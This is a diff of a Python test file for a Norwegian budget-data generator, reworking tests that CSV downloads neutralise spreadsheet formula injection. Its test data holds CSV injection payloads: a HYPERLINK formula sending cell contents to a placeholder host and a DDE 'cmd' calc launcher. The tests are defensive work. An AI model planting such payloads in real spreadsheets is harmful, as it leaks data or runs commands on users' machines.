@@ -1,4 +1,5 @@
-"""Data downloads: the CSVs parse back and sum to the model, the JSON is the
+"""Data downloads: CSV cells are safe in a spreadsheet (the tables themselves:
+tests/test_downloads.py), the JSON is the
 contract, and the deadlines calendar is valid RFC 5545 that round-trips."""
 from __future__ import annotations
 
@@ -12,18 +13,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from generator.model import Assignment, BudgetRow, Chapter, Document, Post, Vedtak, to_contract
-from generator.render.data import (
-    CalendarEvent,
-    assignments_csv,
-    budget_rows_csv,
-    extraction_json,
-    ics_calendar,
-    ics_escape,
-    ics_fold,
-    posts_csv,
-    vedtak_csv,
-)
+from generator.model import Assignment, BudgetRow, Chapter, Document, Post, Vedtak
+from generator.render.data import CalendarEvent, extraction_json, ics_calendar, ics_escape, ics_fold
 
 R22, S23, F24 = "Regnskap 2022", "Saldert budsjett 2023", "Forslag 2024"
 
@@ -71,69 +62,6 @@ VEDTAK = [
 def read(text: str) -> list[dict[str, str]]:
     assert text.endswith("\n") and "\r\n" not in text.replace('"\r\n', "")
     return list(csv.DictReader(io.StringIO(text)))
-
-
-# --- CSV ------------------------------------------------------------------------------
-
-def test_posts_csv_parses_and_sums_equal_the_model():
-    text = posts_csv(CHAPTERS, 2024)
-    rows = read(text)
-    assert list(rows[0]) == ["year", "kap", "kap_title", "type", "programme_category", "post",
-                             "post_title", R22, S23, F24, "line"]
-    assert len(rows) == 4
-    assert rows[0] == {"year": "2024", "kap": "740", "kap_title": "Helsedirektoratet", "type": "utgift",
-                       "programme_category": "10.40", "post": "01", "post_title": "Driftsutgifter",
-                       R22: "1234567", S23: "1301250", F24: "1412000", "line": "815"}
-    assert rows[1][S23] == ""  # None stays empty, never 0
-    assert rows[2][R22] == ""  # a heading the post lacks
-    for col in (R22, S23, F24):
-        for kind in ("utgift", "inntekt"):
-            csv_sum = sum(int(r[col]) for r in rows if r[col] and r["type"] == kind)
-            model_sum = sum(v for c in CHAPTERS if c.type == kind for p in c.posts
-                            for h, v in p.amounts if h == col and v is not None)
-            assert csv_sum == model_sum
-    assert posts_csv(CHAPTERS, 2024) == text  # deterministic
-
-
-def test_budget_rows_csv_union_of_headings_and_awkward_text():
-    rows = read(budget_rows_csv(ROWS))
-    assert list(rows[0]) == ["source", "kap", "post", "title", "type", "unit", "Tildeling 2025",
-                             "Bevilgning 2022", "Tillegg 1", "comment", "line"]
-    assert rows[1]["title"] == "Spesielle driftsutgifter, kan overføres, «x», \"y\""
-    assert rows[1]["comment"] == "Inkl. 12 mill. kr til\nhelseberedskap; se punkt 3.2"
-    assert rows[2]["Tillegg 1"] == "-2000"
-    assert rows[3]["Bevilgning 2022"] == ""
-    for col in ("Tildeling 2025", "Bevilgning 2022", "Tillegg 1"):
-        assert sum(int(r[col]) for r in rows if r[col]) == sum(
-            v for _, r in ROWS for h, v in r.amounts if h == col and v is not None)
-
-
-def test_amount_heading_that_clashes_with_a_column_is_renamed():
-    rows = read(budget_rows_csv([("x.txt", BudgetRow(740, "01", "D", (("line", 5),), "1000 NOK", "utgift", 7))]))
-    assert rows[0]["line"] == "7" and rows[0]["beløp: line"] == "5"
-
-
-def test_assignments_csv():
-    rows = read(assignments_csv([("tildelingsbrev-2025.txt", TB), ("tildelingsbrev-2025.txt", TB_OLD)]))
-    assert list(rows[0]) == ["source", "id", "printed_id", "title", "departments", "deadline", "deadline_text",
-                             "section", "letter", "status", "line", "end_line"]
-    assert rows[0]["id"] == "TB2025-12" and rows[0]["deadline"] == "2025-12-31"
-    assert rows[0]["departments"] == "HOD-SPES;HOD-FHA"
-    assert rows[0]["title"] == "Nasjonal plan for helseberedskap, oppfølging"
-    assert rows[1]["printed_id"] == "" and rows[1]["deadline"] == "" and rows[1]["departments"] == ""
-    assert (rows[1]["line"], rows[1]["end_line"]) == ("1300", "1302")
-
-
-def test_vedtak_csv_reporting_closed():
-    rows = read(vedtak_csv(VEDTAK))
-    assert list(rows[0]) == ["source", "session", "nr", "date", "title", "reporting_closed", "line"]
-    assert [r["reporting_closed"] for r in rows] == ["ja", "nei", ""]
-    assert rows[0]["session"] == "2022–2023" and rows[0]["nr"] == "831" and rows[1]["date"] == ""
-
-
-def test_empty_inputs_give_a_header_only():
-    assert posts_csv([], 2025).splitlines()[0].startswith("year,kap,")
-    assert len(assignments_csv([]).splitlines()) == 1
 
 
 def test_extraction_json_is_the_contract():
@@ -294,30 +222,42 @@ FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")", "+1+cmd|' /C calc
             "\tTAB=1", "\rCR=1"]
 
 
-def test_csv_text_that_looks_like_a_formula_is_neutralised_in_every_csv():
-    """OWASP: a text cell starting with = + - @ tab or CR gets a leading apostrophe,
-    in every CSV and in headers too; amounts (ints) and plain signed numbers stay numbers."""
+def _download_tables():
+    """Every kind of CSV download, built from model objects whose text is FORMULAS."""
     from dataclasses import replace
 
-    rows = [(f"x{i}.txt", replace(ROWS[2][1], title=f, comment=f, amounts=((f, -2000),)))
-            for i, f in enumerate(FORMULAS)]
-    texts = {
-        "budsjettlinjer": budget_rows_csv(rows),
-        "oppdrag": assignments_csv([("x.txt", replace(TB, title=f, deadline_text=f)) for f in FORMULAS]),
-        "vedtak": vedtak_csv([("x.txt", replace(VEDTAK[0][1], title=f)) for f in FORMULAS]),
-        "poster": posts_csv([replace(CHAPTERS[0], title=FORMULAS[0], posts=tuple(
-            replace(CHAPTERS[0].posts[0], title=f, amounts=((f, -5),)) for f in FORMULAS))], 2024),
-    }
-    for name, text in texts.items():
-        cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
-        formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
-                    or (c.startswith("-") and not c.lstrip("-").isdigit())]
-        assert formulas == [], (name, formulas)
-        for f in FORMULAS:
-            assert "'" + f.replace("\r", "\n") in cells, (name, f)  # still readable
-    rows_read = read(texts["budsjettlinjer"])
-    assert rows_read[0]["'" + FORMULAS[0]] == "-2000"  # an amount under a neutralised header
-    assert [r["title"] for r in read(texts["oppdrag"])][2] == "'-2+3"
+    from generator.linking import ChapterInfo, YearModel
+    from generator.render.downloads import assignments_table, letter_allocations, proposition_posts, vedtak_table
+
+    doc = Document(source="x.txt", path="source/x.txt", kind="prop1s", budget_year=2024, title="X")
+    chapter = replace(CHAPTERS[0], title=FORMULAS[0], posts=tuple(
+        replace(CHAPTERS[0].posts[0], title=f, amounts=((f, -5),)) for f in FORMULAS))
+    rows = [(doc, replace(ROWS[2][1], title=f, comment=f)) for f in FORMULAS]
+    info = ChapterInfo(740, FORMULAS[0], "utgift", None, (doc, chapter), rows)
+    model = YearModel(2024, [doc],
+                      assignments={f"a{i}": (doc, replace(TB, id=f"TB2024-{i}", title=f, deadline_text=f))
+                                   for i, f in enumerate(FORMULAS)},
+                      vedtak={f"v{i}": (doc, replace(VEDTAK[0][1], title=f)) for i, f in enumerate(FORMULAS)})
+    return {"poster": proposition_posts([info], 2024), "tildelinger": letter_allocations([info], 2024),
+            "oppdrag": assignments_table(model), "vedtak": vedtak_table(model)}
+
+
+def test_csv_text_that_looks_like_a_formula_is_neutralised_in_every_csv():
+    """OWASP: a text cell starting with = + - @ tab or CR gets a leading apostrophe,
+    in every CSV (standard and Excel) and in headers too; amounts stay numbers."""
+    from generator.render.downloads import to_csv
+
+    for name, table in _download_tables().items():
+        for excel in (False, True):
+            text = to_csv(table, excel=excel).lstrip("\ufeff")
+            cells = [c for r in csv.reader(io.StringIO(text), delimiter=";" if excel else ",") for c in r]
+            formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
+                        or (c.startswith("-") and not c.lstrip("-").isdigit())]
+            assert formulas == [], (name, excel, formulas)
+            for f in FORMULAS:
+                assert "'" + f.replace("\r", "\n") in cells, (name, f)  # still readable
+    letter = read(to_csv(_download_tables()["tildelinger"]))
+    assert [r["Tildelt Helsedirektoratet (1 000 kr)"] for r in letter][0] == "-2000"  # a number, not text
 
 
 def test_csv_plain_negative_numbers_stay_numbers():
@@ -327,4 +267,3 @@ def test_csv_plain_negative_numbers_stay_numbers():
     assert csv_cell("-1234") == "-1234" and csv_cell("+12,5") == "+12,5"
     assert csv_cell("-1234 kr") == "'-1234 kr" and csv_cell("=1") == "'=1"
     assert csv_cell("Helse – og omsorg") == "Helse – og omsorg" and csv_cell(None) == ""
-    assert read(budget_rows_csv(ROWS))[2]["Tillegg 1"] == "-2000"
